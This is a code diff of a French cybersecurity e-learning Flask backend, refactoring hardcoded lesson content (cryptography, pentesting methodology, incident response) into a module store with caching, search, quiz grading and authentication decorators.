-Frequency test - Distribution des 0 et 1
-Runs test - Séquences de bits identiques
-Matrix rank - Indépendance linéaire
-Spectral test - Périodicité cachée
-```
-
-### HSM (Hardware Security Modules)
-
-**Avantages des HSM :**
-- Génération d'entropie vraie (bruit thermique, quantum)
-- Protection physique (tamper-evident/resistant)
-- Certification Common Criteria (EAL 4+)
-- Performance cryptographique optimisée
-
-## 🛡️ Protocoles cryptographiques robustes
-
-### Authentification mutuelle forte
-
-**Protocol Station-to-Station (STS) :**
-```
-Alice → Bob : g^a
-Bob → Alice : g^b, Sign_B(g^b, g^a)
-Alice → Bob : Sign_A(g^a, g^b)
-
-Clé partagée : K = g^(ab)
-Authentification : Signatures croisées
-```
-
-### Forward Secrecy (Confidentialité Persistante)
-
-**Signal Protocol - Référence industrie :**
-```
-Double Ratchet Algorithm:
-- DH Ratchet : Nouvelle paire de clés à chaque message
-- KDF Ratchet : Dérivation de clés chaînée
-
-Message Key = KDF(Chain Key, Constant)
-Chain Key = KDF(Chain Key, 0x01)
-```
-
-**Avantages opérationnels :**
-- Compromission clé → Pas d'impact historique
-- Self-healing : Récupération automatique
-- Asynchrone : Pas de synchronisation requise
-
-## 🔍 Cryptanalyse moderne
-
-### Attaques algébriques
-
-**Exemple AES réduit :**
-```python
-# Modélisation en équations polynomiales sur GF(2)
-# S-Box AES → 39 équations quadratiques en 16 variables
-# Résolution par bases de Gröbner (complexité exponentielle)
-
-def aes_algebraic_model(plaintext, key, rounds=10):
-    equations = []
-    variables = generate_state_variables(rounds)
-    
-    # Contraintes SubBytes
-    for r in range(rounds):
-        equations.extend(sbox_constraints(variables[r]))
-    
-    # Contraintes ShiftRows, MixColumns, AddRoundKey
-    # ... 
-    
-    return solve_polynomial_system(equations)
-```
-
-### Cryptanalyse différentielle
-
-**Principe fondamental :**
-```
-P1 ⊕ P2 = ΔP → C1 ⊕ C2 = ΔC avec probabilité p
-
-Objectif : Trouver des différentielles de haute probabilité
-pour récupérer des informations sur la clé
-```
-
-### Linear Cryptanalysis
-
-**Attack de Matsui sur DES :**
-```
-Approximations linéaires :
-P[i1,i2,...] ⊕ C[j1,j2,...] ⊕ K[k1,k2,...] = 0 avec biais ε
-
-Complexité : O(ε^(-2)) textes clairs connus
-```
-
-## 🏭 Cryptographie en production
-
-### Lifecycle Management des clés
-
-**NIST SP 800-57 - Recommandations :**
-```
-Génération → Distribution → Utilisation → Archivage → Destruction
-
-Périodes cryptographiques :
-- Clés de chiffrement : 2 ans maximum
-- Clés de signature : 3 ans maximum  
-- Clés racines CA : 10-20 ans
-```
-
-### API Cryptographiques sécurisées
+# Modules de cours : index en mémoire, leçons lues sur disque au premier accès
+module_store = ModuleStore()
 
-**PKCS#11 - Standard industrie :**
-```c
-// Interface uniforme pour HSM/Smart cards
-CK_RV C_EncryptInit(CK_SESSION_HANDLE hSession,
-                    CK_MECHANISM_PTR pMechanism,
-                    CK_OBJECT_HANDLE hKey);
+# Corps JSON (brut et gzip) de /api/module/<id>, construits une fois par version du module
+module_responses = http_cache.ResponseCache(lambda module: app.json.response(module).get_data())
 
-// Mécanismes supportés
-CKM_AES_GCM, CKM_RSA_OAEP, CKM_ECDSA_SHA256
-```
+# HTML des leçons, rendu une fois par texte Markdown distinct
+lesson_renders = RenderCache()
 
-**Azure Key Vault / AWS KMS :**
-```python
-# Chiffrement côté cloud avec clés managées
-from azure.keyvault.keys.crypto import CryptographyClient
-
-crypto_client = CryptographyClient(key, credential)
-result = crypto_client.encrypt("RSA-OAEP", plaintext)
-```
-
-### Performance et optimisation
-
-**Benchmarks AES (Intel i7, single-core) :**
-```
-AES-128-CBC : ~1.2 GB/s (software)
-AES-128-GCM : ~800 MB/s (software)
-AES-NI      : ~3.5 GB/s (hardware acceleration)
-ChaCha20    : ~950 MB/s (software optimized)
-```
-
-**Optimisations assembleur critiques :**
-- Utilisation instructions AES-NI (Intel/AMD)
-- SIMD pour opérations parallèles
-- Cache timing mitigation
-- Constant-time implementations
-
-## 📡 Cryptographie quantique
-
-### Distribution quantique de clés (QKD)
-
-**Protocole BB84 :**
-```
-Alice encode qubits : |0⟩, |1⟩, |+⟩, |−⟩
-Bob mesure aléatoirement : base Z ou base X
-Comparaison publique → Clé secrète
-
-Sécurité : Principe d'incertitude quantique
-Écoute → Perturbation détectable
-```
-
-### Limites pratiques actuelles
-
-**Défis techniques :**
-- Distance limitée (quelques centaines de km)
-- Débit faible (kbits/s)
-- Infrastructure coûteuse
-- Vulnérabilités d'implémentation
-
-## 🔮 Perspectives d'évolution
-
-### Cryptographie homomorphe
-
-**Calcul sur données chiffrées :**
-```python
-# Conceptuel - Encore expérimental
-encrypted_a = encrypt(42)
-encrypted_b = encrypt(17)
-encrypted_result = homomorphic_add(encrypted_a, encrypted_b)
-result = decrypt(encrypted_result)  # = 59
-```
-
-### Zero-Knowledge Proofs
-
-**Applications émergentes :**
-- Authentification sans révéler le secret
-- Blockchain privacy (Zcash, Monero)
-- Compliance sans exposition de données
+def render_lesson(lesson):
+    """Ajouter à une leçon son HTML complet et découpé par sections (##)"""
+    if lesson is None:
+        return None
+    rendered = lesson_renders.get(lesson["content"])
+    return {**lesson, "html": rendered["html"], "sections": rendered["sections"]}
+
+# Quêtes (quests/*.json) en mémoire, revalidées par mtime/taille
+quest_catalog = QuestCatalog()
+
+# Pack binaire des quêtes (mmap) : une question sans décoder le reste de la quête
+quest_pack = QuestPack()
+
+# Correction des réponses : alternatives compilées une fois par version de quête
+grading_engine = GradingEngine(quest_catalog)
+
+# Recherche plein texte : index construit à la première recherche, puis tenu à jour par module / quête
+search_index = SearchIndex()
+MAX_SEARCH_RESULTS = 50
+MAX_SEARCH_QUERY_LENGTH = 200
+
+def search_documents(group):
+    """Documents indexés d'un module (ses leçons) ou d'une quête (ses questions)"""
+    kind, source_id = group
+    documents = []
+    if kind == 'module':
+        module = module_store.get(source_id) or {"lessons": []}
+        for lesson in module["lessons"]:
+            documents.append((
+                ('lesson', source_id, str(lesson.get('id'))),
+                lesson.get('title') or '',
+                plain_text(lesson.get('content') or ''),
+                {"type": "lesson", "module_id": source_id, "module_title": module.get('title'),
+                 "lesson_id": lesson.get('id'), "title": lesson.get('title')}
+            ))
+    else:
+        try:
+            questions = quest_catalog.get(source_id) or []
+        except Exception:
+            questions = []
+        for position, question in enumerate(questions):
+            if not isinstance(question, dict):
+                continue
+            # La réponse attendue n'est jamais indexée
+            documents.append((
+                ('question', source_id, position),
+                str(question.get('question') or ''),
+                str(question.get('explanation') or ''),
+                {"type": "question", "quest_id": source_id, "question_id": question.get('id'),
+                 "title": question.get('question')}
+            ))
+    return documents
+
+def sync_search_index():
+    """Réindexer les seuls modules et quêtes dont la version a changé"""
+    source_version = (module_store.version, quest_catalog.version)
+    if search_index.source_version == source_version:
+        return
+    versions = {('module', module['id']): module_store.module_version(module['id'])
+                for module in module_store.list_modules()}
+    versions.update({('quest', quest_id): quest_catalog.quest_version(quest_id)
+                     for quest_id, _ in quest_catalog.items()})
+    search_index.sync(versions, search_documents, source_version)
 
-Maîtriser ces concepts vous place au cœur de la révolution cryptographique !
-"""
-            }
-        ]
-    },
-    "ethical_hacking": {
-        "id": "ethical_hacking",
-        "title": "Hacking Éthique",
-        "description": "Apprenez les techniques de test de pénétration légales",
-        "icon": "🎯",
-        "difficulty": "Avancé",
-        "duration": "75 min",
-        "lessons": [
-            {
-                "id": 1,
-                "title": "Introduction au pentesting",
-                "content": """
-# Introduction au Pentesting
-
-## Qu'est-ce que le pentesting ?
-Le test de pénétration (pentesting) simule une attaque réelle pour identifier les vulnérabilités.
-
-## Méthodologies :
-
-### 1. PTES (Penetration Testing Execution Standard)
-1. **Pré-engagement** : Définir le scope
-2. **Reconnaissance** : Collecte d'informations
-3. **Énumération** : Identification des services
-4. **Analyse de vulnérabilités**
-5. **Exploitation**
-6. **Post-exploitation**
-7. **Rapport**
-
-### 2. OWASP Testing Guide
-- Guide spécialisé pour les applications web
-- Méthodologie structurée
-- Tests manuels et automatisés
-
-## Types de tests :
-
-### Boîte noire (Black Box)
-- Aucune connaissance du système
-- Simule un attaquant externe
-- Plus réaliste
-
-### Boîte blanche (White Box)
-- Accès complet au code source
-- Plus exhaustif
-- Moins réaliste
-
-### Boîte grise (Gray Box)
-- Connaissance partielle
-- Équilibre entre réalisme et exhaustivité
-"""
-            }
-        ]
-    },
-    "incident_response": {
-        "id": "incident_response",
-        "title": "Réponse aux Incidents",
-        "description": "Gérez efficacement les incidents de sécurité",
-        "icon": "🚨",
-        "difficulty": "Avancé",
-        "duration": "50 min",
-        "lessons": [
-            {
-                "id": 1,
-                "title": "Cycle de vie de la réponse aux incidents",
-                "content": """
-# Réponse aux Incidents
-
-## Cycle NIST (4 phases) :
-
-### 1. Préparation
-- **Équipe CSIRT** constituée
-- **Procédures** documentées
-- **Outils** préparés
-- **Formation** régulière
-
-### 2. Détection et Analyse
-- **SIEM** (Security Information and Event Management)
-- **Alertes** de sécurité
-- **Analyse** des logs
-- **Triage** des incidents
-
-### 3. Confinement, Éradication, Récupération
-- **Confinement** : Isoler la menace
-- **Éradication** : Supprimer la cause
-- **Récupération** : Restaurer les services
-
-### 4. Leçons apprises
-- **Post-mortem** détaillé
-- **Amélioration** des procédures
-- **Mise à jour** de la documentation
-
-## Indicateurs de Compromission (IoC) :
-
-### IoC Techniques
-- Hashes de fichiers malveillants
-- Adresses IP suspectes
-- Noms de domaines malveillants
-- Signatures réseau
-
-### IoC Comportementaux
-- Connexions inhabituelles
-- Augmentation du trafic
-- Accès à des fichiers sensibles
-- Modifications système
-"""
-            }
-        ]
-    }
-}
+def reindex_after_edit():
+    """Après une écriture admin : mettre l'index à jour tout de suite s'il est déjà construit"""
+    if search_index.source_version is not None:
+        sync_search_index()
 
 @app.route('/api/modules')
+@http_cache.conditional(lambda: module_store.version)
 def get_modules():
     """Get all available learning modules"""
-    modules = []
-    for module_id, module_data in modules_data.items():
-        modules.append({
-            "id": module_data["id"],
-            "title": module_data["title"],
-            "description": module_data["description"],
-            "icon": module_data["icon"],
-            "difficulty": module_data["difficulty"],
-            "duration": module_data["duration"]
-        })
-    return jsonify({"modules": modules})
+    return jsonify({"modules": module_store.list_modules()})
 
 @app.route('/api/module/<module_id>')
+@http_cache.conditional(lambda module_id: module_store.module_version(module_id), vary_encoding=True)
 def get_module(module_id):
-    """Get specific module with lessons"""
-    if module_id in modules_data:
-        return jsonify(modules_data[module_id])
+    """Plan du module (leçons sans contenu) ; ?full=1 pour toutes les leçons avec leur contenu"""
+    if parse_bool_arg(request.args.get('full')):
+        response = module_responses.respond(module_id, module_store.module_version(module_id),
+                                            lambda: module_store.get(module_id))
+    else:
+        response = module_responses.respond(('outline', module_id), module_store.module_version(module_id),
+                                            lambda: module_store.outline(module_id))
+    if response is not None:
+        return response
     return jsonify({"error": "Module not found"}), 404
 
+@app.route('/api/module/<module_id>/lesson/<lesson_id>')
+@http_cache.conditional(lambda module_id, lesson_id: module_store.module_version(module_id), vary_encoding=True)
+def get_lesson(module_id, lesson_id):
+    """Une leçon d'un module : Markdown (content), HTML assaini (html) et sections HTML"""
+    response = module_responses.respond(('lesson', module_id, lesson_id), module_store.module_version(module_id),
+                                        lambda: render_lesson(module_store.lesson(module_id, lesson_id)))
+    if response is not None:
+        return response
+    return jsonify({"error": "Lesson not found"}), 404
+
 @app.route('/api/quests')
+@http_cache.conditional(lambda: (quest_catalog.version, module_store.version))
 def get_quests():
     quests = []
-    quest_dir = os.path.join(os.path.dirname(__file__), 'quests')
-    
-    if os.path.exists(quest_dir):
-        for filename in os.listdir(quest_dir):
-            if filename.endswith('.json'):
-                try:
-                    with open(os.path.join(quest_dir, filename), 'r', encoding='utf-8') as f:
-                        quest_data = json.load(f)
-                        module_name = filename.replace('.json', '')
-                        quests.append({
-                            "id": module_name,
-                            "title": modules_data.get(module_name, {}).get("title", module_name.title()),
-                            "icon": modules_data.get(module_name, {}).get("icon", "🎯"),
-                            "difficulty": modules_data.get(module_name, {}).get("difficulty", "Débutant"),
-                            "questions": quest_data
-                        })
-                except Exception as e:
-                    print(f"Error loading {filename}: {e}")
+    for module_name, quest_data in quest_catalog.items():
+        module_meta = module_store.meta(module_name)
+        quests.append({
+            "id": module_name,
+            "title": module_meta.get("title", module_name.title()),
+            "icon": module_meta.get("icon", "🎯"),
+            "difficulty": module_meta.get("difficulty", "Débutant"),
+            "questions": quest_data
+        })
     
     return jsonify({"quests": quests})
 
 @app.route('/api/quest/<quest_id>')
+@http_cache.conditional(lambda quest_id: (quest_catalog.version, module_store.version))
 def get_quest(quest_id):
-    quest_file = os.path.join(os.path.dirname(__file__), 'quests', f'{quest_id}.json')
+    try:
+        quest_data = quest_catalog.get(quest_id)
+    except Exception as e:
+        return jsonify({"error": f"Error loading quest: {e}"}), 500
     
-    if os.path.exists(quest_file):
-        try:
-            with open(quest_file, 'r', encoding='utf-8') as f:
-                quest_data = json.load(f)
-                return jsonify({
-                    "id": quest_id,
-                    "title": modules_data.get(quest_id, {}).get("title", quest_id.title()),
-                    "icon": modules_data.get(quest_id, {}).get("icon", "🎯"),
-                    "questions": quest_data
-                })
-        except Exception as e:
-            return jsonify({"error": f"Error loading quest: {e}"}), 500
-    else:
+    if quest_data is None:
+        return jsonify({"error": "Quest not found"}), 404
+    
+    module_meta = module_store.meta(quest_id)
+    return jsonify({
+        "id": quest_id,
+        "title": module_meta.get("title", quest_id.title()),
+        "icon": module_meta.get("icon", "🎯"),
+        "questions": quest_data
+    })
+
+@app.route('/api/quest/<quest_id>/question/<int:index>')
+@http_cache.conditional(lambda quest_id, index: quest_pack.version)
+def get_quest_question(quest_id, index):
+    """Question `index` (à partir de 0) d'une quête, lue dans le pack ; la réponse se vérifie via /grade"""
+    question = quest_pack.question(quest_id, index)
+    if not isinstance(question, dict):
+        return jsonify({"error": "Question not found"}), 404
+    question.pop('answer', None)
+    return jsonify({
+        "quest_id": quest_id,
+        "index": index,
+        "total": quest_pack.count(quest_id),
+        "question": question
+    })
+
+@app.route('/api/quest/<quest_id>/grade', methods=['POST'])
+def grade_quest(quest_id):
+    """Corriger un lot de réponses : {"answers": [{"question_id": 1, "answer": "..."}], "fuzzy": false}"""
+    data = request.get_json(silent=True)
+    answers = data.get('answers') if isinstance(data, dict) else None
+    if not isinstance(answers, list) or not all(isinstance(item, dict) for item in answers):
+        return jsonify({"error": "answers must be a list of {question_id, answer}"}), 400
+    if len(answers) > MAX_GRADE_BATCH:
+        return jsonify({"error": f"Too many answers (max {MAX_GRADE_BATCH})"}), 400
+    
+    try:
+        result = grading_engine.grade(quest_id, answers, fuzzy=data.get('fuzzy') is True)
+    except Exception as e:
+        return jsonify({"error": f"Error loading quest: {e}"}), 500
+    if result is None:
         return jsonify({"error": "Quest not found"}), 404
+    return jsonify(result)
+
+@app.route('/api/search')
+def search():
+    """Recherche dans les leçons et les questions : ?q=texte[&type=lesson|question][&limit=20]"""
+    query = request.args.get('q', '').strip()
+    if not query:
+        return jsonify({"error": "Missing query"}), 400
+    if len(query) > MAX_SEARCH_QUERY_LENGTH:
+        return jsonify({"error": "Query too long"}), 400
+    kind = request.args.get('type') or None
+    if kind not in (None, 'lesson', 'question'):
+        return jsonify({"error": "Invalid type"}), 400
+    limit = min(max(request.args.get('limit', 20, type=int), 1), MAX_SEARCH_RESULTS)
+    
+    sync_search_index()
+    return jsonify(search_index.search(query, limit=limit, kind=kind))
 
 @app.route('/api/user/data', methods=['GET'])
+@auth.require_user
 def get_user_data():
     """Récupérer les données utilisateur depuis le backend"""
     try:
-        # Get auth token from headers
-        auth_header = request.headers.get('Authorization')
-        if not auth_header:
-            return jsonify({"error": "No authorization token"}), 401
-        
-        token = auth_header.replace('Bearer ', '')
-        if token not in sessions_db:
-            return jsonify({"error": "Invalid token"}), 401
-        
-        username = sessions_db[token]
-        
-        # Récupérer l'utilisateur
-        user = db.get_user_by_username(username)
+        # Utilisateur déjà résolu par l'authentification
+        user = auth.current_user()
         if not user:
             return jsonify({"error": "User not found"}), 404
         
+        completions = db.get_user_completions(g.username)
+        
         return jsonify({
             "username": user["username"],
             "email": user["email"],
             "level": user["level"],
             "experience": user["experience"],
             "is_admin": bool(user.get("is_admin", 0)),
-            "completed_quizzes": json.loads(user.get("completed_quizzes", "[]")),
-            "completed_modules": json.loads(user.get("completed_modules", "[]")),
+            "completed_quizzes": completions["completed_quizzes"],
+            "completed_modules": completions["completed_modules"],
             "progress": json.loads(user.get("progress", "{}"))
         }), 200
         
@@ -1298,26 +392,16 @@ def get_user_data():
         print(f"❌ [GET_USER_DATA] Erreur: {str(e)}")
         return jsonify({"error": str(e)}), 500
 
+# Synchronisations identiques ignorées, rapprochées regroupées (fenêtre CYBERFORGE_PROGRESS_DEBOUNCE)
+progress_sync = ProgressSync(db.apply_progress_update)
+
 @app.route('/api/user/progress', methods=['POST'])
+@auth.require_user
 def update_progress():
     try:
-        # Get auth token from headers
-        auth_header = request.headers.get('Authorization')
-        if not auth_header:
-            return jsonify({"error": "No authorization token"}), 401
-        
-        token = auth_header.replace('Bearer ', '')
-        if token not in sessions_db:
-            return jsonify({"error": "Invalid token"}), 401
-        
-        username = sessions_db[token]
+        username = g.username
         data = request.get_json()
         
-        # Récupérer l'utilisateur
-        user = db.get_user_by_username(username)
-        if not user:
-            return jsonify({"error": "User not found"}), 404
-        
         # Préparer les données à mettre à jour
         experience = data.get("experience")
         level = data.get("level")
@@ -1330,56 +414,47 @@ def update_progress():
             if isinstance(completed_quizzes[0], dict):
                 completed_quizzes = [q.get("id") for q in completed_quizzes if q.get("id")]
         
-        # Mettre à jour dans la base de données
-        success = db.update_user_progress(
-            username=username,
-            experience=experience,
-            level=level,
-            progress=progress,
-            completed_modules=completed_modules,
-            completed_quizzes=completed_quizzes
-        )
+        # Mettre à jour dans la base de données (ignoré si rien n'a changé)
+        result, written = progress_sync.submit(username, {
+            "experience": experience,
+            "level": level,
+            "progress": progress,
+            "completed_modules": completed_modules,
+            "completed_quizzes": completed_quizzes
+        })
         
-        if success:
-            # Récupérer les données mises à jour
-            updated_user = db.get_user_by_username(username)
-            
-            # 🔄 NOTIFICATION TEMPS RÉEL : Envoyer SEULEMENT si changement réel
-            # Comparer avec les anciennes données
-            old_level = user["level"]
-            old_experience = user["experience"]
-            new_level = updated_user["level"]
-            new_experience = updated_user["experience"]
-            
-            # Envoyer notification uniquement si changement
-            if new_level != old_level or new_experience != old_experience:
-                socketio.emit('leaderboard_update', {
-                    'username': username,
-                    'level': new_level,
-                    'experience': new_experience,
-                    'message': f"{username} a progressé ! Niveau {new_level}, {new_experience} XP"
-                })
-                print(f"📡 [REALTIME] Notification envoyée: {username} → Level {new_level}, XP {new_experience}")
-            else:
-                print(f"🔕 [REALTIME] Pas de changement, notification ignorée: {username} → Level {new_level}, XP {new_experience}")
-            
-            return jsonify({
-                "message": "Progress updated successfully",
-                "user": {
-                    "level": updated_user["level"],
-                    "experience": updated_user["experience"],
-                    "completed_quizzes": json.loads(updated_user.get("completed_quizzes", "[]")),
-                    "completed_modules": json.loads(updated_user.get("completed_modules", "[]"))
-                }
+        if not result:
+            return jsonify({"error": "User not found"}), 404
+        
+        # 🔄 NOTIFICATION TEMPS RÉEL : Envoyer SEULEMENT si changement réel
+        # (et une seule fois, par l'appel qui a effectivement écrit)
+        new_level = result["level"]
+        new_experience = result["experience"]
+        if written and (new_level != result["old_level"] or new_experience != result["old_experience"]):
+            socketio.emit('leaderboard_update', {
+                'username': username,
+                'level': new_level,
+                'experience': new_experience,
+                'message': f"{username} a progressé ! Niveau {new_level}, {new_experience} XP"
             })
-        else:
-            return jsonify({"error": "Failed to update progress"}), 500
+            print(f"📡 [REALTIME] Notification envoyée: {username} → Level {new_level}, XP {new_experience}")
+        
+        return jsonify({
+            "message": "Progress updated successfully",
+            "user": {
+                "level": new_level,
+                "experience": new_experience,
+                "completed_quizzes": result["completed_quizzes"],
+                "completed_modules": result["completed_modules"]
+            }
+        })
         
     except Exception as e:
         print(f"❌ [PROGRESS] Erreur: {str(e)}")
         return jsonify({"error": str(e)}), 500
 
 @app.route('/api/leaderboard')
+@http_cache.conditional(lambda: db.get_leaderboard_version())
 def get_leaderboard():
     try:
         # Récupérer le leaderboard depuis la base de données
@@ -1390,55 +465,89 @@ def get_leaderboard():
         print(f"❌ [LEADERBOARD] Erreur: {e}")
         return jsonify([]), 500
 
+@app.route('/api/leaderboard/rank/<username>')
+def get_leaderboard_rank(username):
+    """Rang d'un joueur dans le classement"""
+    try:
+        entry = db.get_user_rank(username)
+        if not entry:
+            return jsonify({"error": "Player not ranked"}), 404
+        entry["total"] = db.get_leaderboard_size()
+        return jsonify(entry)
+    except Exception as e:
+        print(f"❌ [LEADERBOARD] Erreur: {e}")
+        return jsonify({"error": str(e)}), 500
+
+@app.route('/api/leaderboard/around/<username>')
+def get_leaderboard_around(username):
+    """Joueurs classés autour d'un joueur"""
+    try:
+        radius = min(max(request.args.get('radius', 5, type=int), 0), MAX_LEADERBOARD_RADIUS)
+        players = db.get_leaderboard_around(username, radius)
+        if players is None:
+            return jsonify({"error": "Player not ranked"}), 404
+        return jsonify({
+            "username": username,
+            "radius": radius,
+            "total": db.get_leaderboard_size(),
+            "players": players
+        })
+    except Exception as e:
+        print(f"❌ [LEADERBOARD] Erreur: {e}")
+        return jsonify({"error": str(e)}), 500
+
 @app.route('/api/health')
 def health_check():
     return jsonify({
         "status": "healthy",
         "timestamp": datetime.now().isoformat(),
-        "users_count": len(users_db),
-        "active_sessions": len(sessions_db)
+        "users_count": db.count_users(),
+        "active_sessions": sessions.active_count(),
+        "sessions": sessions.stats(),
+        "database": db.get_pool_stats(),
+        "progress_history": db.get_history_stats(),
+        "user_cache": db.get_user_cache_stats(),
+        "progress_sync": progress_sync.stats(),
+        "password_hashing": password_hasher.stats(),
+        "auth": auth.stats(),
+        "rate_limit": rate_limiter.stats(),
+        "content": module_store.stats(),
+        "quests": quest_catalog.stats(),
+        "conditional_responses": http_cache.get_stats(),
+        "module_responses": module_responses.stats(),
+        "lesson_renders": lesson_renders.stats(),
+        "search": search_index.stats(),
+        "grading": grading_engine.stats(),
+        "quest_pack": quest_pack.stats()
     })
 
 # ===================================
 # ADMIN ROUTES
 # ===================================
 
-def verify_admin(token):
-    """Vérifie si l'utilisateur est admin"""
-    if token not in sessions_db:
-        return None
-    username = sessions_db[token]
-    
-    # Récupérer l'utilisateur depuis la base de données SQLite
-    user = db.get_user_by_username(username)
-    if not user:
-        return None
-    
-    if not bool(user.get("is_admin", 0)):
-        return None
-    
-    return username
+def warm_module_response(module_id):
+    """Reconstruire tout de suite les corps pré-compressés (plan et module complet) d'un module modifié"""
+    version = module_store.module_version(module_id)
+    module_responses.warm(('outline', module_id), version, lambda: module_store.outline(module_id))
+    module = module_store.get(module_id)
+    module_responses.warm(module_id, version, lambda: module)
+    # Seules les leçons dont le texte a changé sont rendues à nouveau (cache par empreinte)
+    for lesson in module["lessons"]:
+        lesson_renders.get(lesson["content"])
+    reindex_after_edit()
 
 @app.route('/api/admin/modules', methods=['POST'])
+@auth.require_admin
 def create_module():
     """Créer un nouveau module de cours"""
     try:
-        auth_header = request.headers.get('Authorization')
-        if not auth_header:
-            return jsonify({"error": "No authorization token"}), 401
-        
-        token = auth_header.replace('Bearer ', '')
-        admin = verify_admin(token)
-        if not admin:
-            return jsonify({"error": "Admin access required"}), 403
-        
         data = request.get_json()
         module_id = data.get('id')
         
-        if module_id in modules_data:
+        if module_id in module_store:
             return jsonify({"error": "Module already exists"}), 409
         
-        modules_data[module_id] = {
+        created = module_store.create({
             "id": module_id,
             "title": data.get('title'),
             "description": data.get('description'),
@@ -1446,67 +555,52 @@ def create_module():
             "difficulty": data.get('difficulty', 'Débutant'),
             "duration": data.get('duration', '30 min'),
             "lessons": data.get('lessons', [])
-        }
+        })
+        if not created:
+            return jsonify({"error": "Module already exists"}), 409
+        warm_module_response(module_id)
         
-        return jsonify({"message": "Module created successfully", "module": modules_data[module_id]}), 201
+        return jsonify({"message": "Module created successfully", "module": module_store.get(module_id)}), 201
         
+    except ValueError as e:
+        return jsonify({"error": str(e)}), 400
     except Exception as e:
         return jsonify({"error": str(e)}), 500
 
 @app.route('/api/admin/modules/<module_id>', methods=['PUT'])
+@auth.require_admin
 def update_module(module_id):
     """Mettre à jour un module existant"""
     try:
-        auth_header = request.headers.get('Authorization')
-        if not auth_header:
-            return jsonify({"error": "No authorization token"}), 401
+        if module_id not in module_store:
+            return jsonify({"error": "Module not found"}), 404
         
-        token = auth_header.replace('Bearer ', '')
-        admin = verify_admin(token)
-        if not admin:
-            return jsonify({"error": "Admin access required"}), 403
+        data = request.get_json(silent=True)
+        if not isinstance(data, dict):
+            return jsonify({"error": "Invalid JSON body"}), 400
         
-        if module_id not in modules_data:
+        # Mettre à jour les champs fournis (title, description, icon, difficulty, duration, lessons)
+        if not module_store.update(module_id, data):
             return jsonify({"error": "Module not found"}), 404
+        warm_module_response(module_id)
         
-        data = request.get_json()
-        
-        # Mettre à jour les champs fournis
-        if 'title' in data:
-            modules_data[module_id]['title'] = data['title']
-        if 'description' in data:
-            modules_data[module_id]['description'] = data['description']
-        if 'icon' in data:
-            modules_data[module_id]['icon'] = data['icon']
-        if 'difficulty' in data:
-            modules_data[module_id]['difficulty'] = data['difficulty']
-        if 'duration' in data:
-            modules_data[module_id]['duration'] = data['duration']
-        if 'lessons' in data:
-            modules_data[module_id]['lessons'] = data['lessons']
-        
-        return jsonify({"message": "Module updated successfully", "module": modules_data[module_id]}), 200
+        return jsonify({"message": "Module updated successfully", "module": module_store.get(module_id)}), 200
         
+    except ValueError as e:
+        return jsonify({"error": str(e)}), 400
     except Exception as e:
         return jsonify({"error": str(e)}), 500
 
 @app.route('/api/admin/modules/<module_id>', methods=['DELETE'])
+@auth.require_admin
 def delete_module(module_id):
     """Supprimer un module"""
     try:
-        auth_header = request.headers.get('Authorization')
-        if not auth_header:
-            return jsonify({"error": "No authorization token"}), 401
-        
-        token = auth_header.replace('Bearer ', '')
-        admin = verify_admin(token)
-        if not admin:
-            return jsonify({"error": "Admin access required"}), 403
-        
-        if module_id not in modules_data:
+        if not module_store.delete(module_id):
             return jsonify({"error": "Module not found"}), 404
-        
-        del modules_data[module_id]
+        module_responses.discard(module_id)
+        module_responses.discard(('outline', module_id))
+        reindex_after_edit()
         
         return jsonify({"message": "Module deleted successfully"}), 200
         
@@ -1514,111 +608,83 @@ def delete_module(module_id):
         return jsonify({"error": str(e)}), 500
 
 @app.route('/api/admin/quizzes', methods=['POST'])
+@auth.require_admin
 def create_quiz():
     """Créer un nouveau quiz"""
     try:
-        auth_header = request.headers.get('Authorization')
-        if not auth_header:
-            return jsonify({"error": "No authorization token"}), 401
-        
-        token = auth_header.replace('Bearer ', '')
-        admin = verify_admin(token)
-        if not admin:
-            return jsonify({"error": "Admin access required"}), 403
-        
         data = request.get_json()
         quiz_id = data.get('id')
         questions = data.get('questions', [])
         
-        # Sauvegarder le quiz dans un fichier JSON
-        quest_file = os.path.join(os.path.dirname(__file__), 'quests', f'{quiz_id}.json')
-        
-        with open(quest_file, 'w', encoding='utf-8') as f:
-            json.dump(questions, f, ensure_ascii=False, indent=2)
+        # Sauvegarder le quiz dans un fichier JSON (et dans le catalogue)
+        quest_catalog.save(quiz_id, questions)
+        quest_pack.refresh(force=True)
+        reindex_after_edit()
         
         return jsonify({"message": "Quiz created successfully"}), 201
         
+    except ValueError as e:
+        return jsonify({"error": str(e)}), 400
     except Exception as e:
         return jsonify({"error": str(e)}), 500
 
 @app.route('/api/admin/quizzes/<quiz_id>', methods=['DELETE'])
+@auth.require_admin
 def delete_quiz(quiz_id):
     """Supprimer un quiz"""
     try:
-        auth_header = request.headers.get('Authorization')
-        if not auth_header:
-            return jsonify({"error": "No authorization token"}), 401
-        
-        token = auth_header.replace('Bearer ', '')
-        admin = verify_admin(token)
-        if not admin:
-            return jsonify({"error": "Admin access required"}), 403
-        
-        quest_file = os.path.join(os.path.dirname(__file__), 'quests', f'{quiz_id}.json')
-        
-        if not os.path.exists(quest_file):
+        if not quest_catalog.delete(quiz_id):
             return jsonify({"error": "Quiz not found"}), 404
-        
-        os.remove(quest_file)
+        quest_pack.refresh(force=True)
+        reindex_after_edit()
         
         print(f"[ADMIN] Quiz deleted: {quiz_id}")
         
         return jsonify({"message": "Quiz deleted successfully"}), 200
         
+    except ValueError as e:
+        return jsonify({"error": str(e)}), 400
     except Exception as e:
         print(f"[ERROR] Delete quiz: {e}")
         return jsonify({"error": str(e)}), 500
 
 @app.route('/api/admin/quizzes/<quiz_id>', methods=['PUT'])
+@auth.require_admin
 def update_quiz(quiz_id):
     """Mettre à jour un quiz existant"""
     try:
-        auth_header = request.headers.get('Authorization')
-        if not auth_header:
-            return jsonify({"error": "No authorization token"}), 401
-        
-        token = auth_header.replace('Bearer ', '')
-        admin = verify_admin(token)
-        if not admin:
-            return jsonify({"error": "Admin access required"}), 403
-        
         data = request.get_json()
         questions = data.get('questions', [])
         
-        quest_file = os.path.join(os.path.dirname(__file__), 'quests', f'{quiz_id}.json')
-        
-        if not os.path.exists(quest_file):
+        if quiz_id not in quest_catalog:
             return jsonify({"error": "Quiz not found"}), 404
         
-        with open(quest_file, 'w', encoding='utf-8') as f:
-            json.dump(questions, f, ensure_ascii=False, indent=2)
+        quest_catalog.save(quiz_id, questions)
+        quest_pack.refresh(force=True)
+        reindex_after_edit()
         
         print(f"[ADMIN] Quiz updated: {quiz_id}")
         
         return jsonify({"message": "Quiz updated successfully"}), 200
         
+    except ValueError as e:
+        return jsonify({"error": str(e)}), 400
     except Exception as e:
         print(f"[ERROR] Update quiz: {e}")
         return jsonify({"error": str(e)}), 500
 
